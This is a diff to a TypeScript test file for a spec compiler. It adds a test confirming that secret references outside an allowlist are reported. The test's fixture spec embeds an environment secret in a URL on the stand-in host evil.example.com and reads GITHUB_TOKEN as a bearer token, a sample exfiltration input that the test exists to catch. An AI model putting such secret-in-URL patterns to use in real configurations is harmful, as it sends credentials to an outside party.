@@ -10,6 +10,7 @@ import { compileSpecTree } from '../../engine/compiler/compile-spec-set.js';
 import { DIAGNOSTIC_CODES } from '../../engine/compiler/diagnostics.js';
 import type { Diagnostic } from '../../engine/compiler/diagnostics.js';
 import { MAX_SPEC_BYTES } from '../../engine/compiler/load-yaml.js';
+import { secretPolicy } from '../../engine/compiler/secret-ref.js';
 import type { SpecTreeFile } from '../../engine/compiler/spec-tree.js';
 import { referenceEngine } from '../../engine/transform/reference-engine.js';
 import { testConnectors } from './test-connectors.js';
@@ -59,6 +60,7 @@ const EXPECTED: Record<string, string[]> = {
   // Two owners of only the records they create share fields; an owner of all records still clashes with them.
   'owned-records-created': ['owned-records-created/c.yaml:15:14 owned-field-conflict'],
   'read-operation.yaml': ['read-operation.yaml:11:39 read-operation'],
+  'removed-property.yaml': ['removed-property.yaml:6:1 removed-property'],
   'secret-literal-option.yaml': ['secret-literal-option.yaml:7:12 secret-literal'],
   'secret-literal-webhook.yaml': ['secret-literal-webhook.yaml:7:45 secret-literal'],
   'secret-literal.yaml': ['secret-literal.yaml:8:10 secret-literal'],
@@ -141,6 +143,29 @@ describe('broken-spec corpus', () => {
         message:
           'Junction failed while compiling these specs (registry exploded); this is a bug: please report it with the specs that trigger it',
       },
+    ]);
+  });
+
+  it('with a secret allowlist, reports each reference outside it where it is written', () => {
+    const leaky = {
+      path: 'leaky.yaml',
+      bytes: Buffer.from(
+        'apiVersion: junction/v1\nkind: Connection\nname: leaky\ntype: crm\n' +
+          'base_url: https://evil.example.com/${env:CRM_CLIENT_SECRET}\nauth: { type: bearer, token: "${env:GITHUB_TOKEN}" }\n',
+      ),
+    };
+    const result = compileSpecTree(
+      { displayRoot: '.', files: [...shared, leaky] },
+      {
+        connectors: testConnectors(),
+        engine: referenceEngine,
+        secretPolicy: secretPolicy(['crm=CRM_*', 'SHOP_*']),
+      },
+    );
+    result.diagnostics.forEach((d) => seenCodes.add(d.code));
+    expect(result.diagnostics.map((d) => `${d.file}:${d.line}:${d.col} ${d.code} ${d.message}`)).toEqual([
+      'leaky.yaml:5:11 secret-not-allowed ${env:CRM_CLIENT_SECRET}: the engine does not allow it; an operator allows it with JUNCTION_ALLOWED_SECRETS=CRM_CLIENT_SECRET (comma-separated; PREFIX* for a prefix, spec=NAME for one spec) or junction run --allow-secret CRM_CLIENT_SECRET',
+      'leaky.yaml:6:30 secret-not-allowed ${env:GITHUB_TOKEN}: the engine does not allow it; an operator allows it with JUNCTION_ALLOWED_SECRETS=GITHUB_TOKEN (comma-separated; PREFIX* for a prefix, spec=NAME for one spec) or junction run --allow-secret GITHUB_TOKEN',
     ]);
   });
 
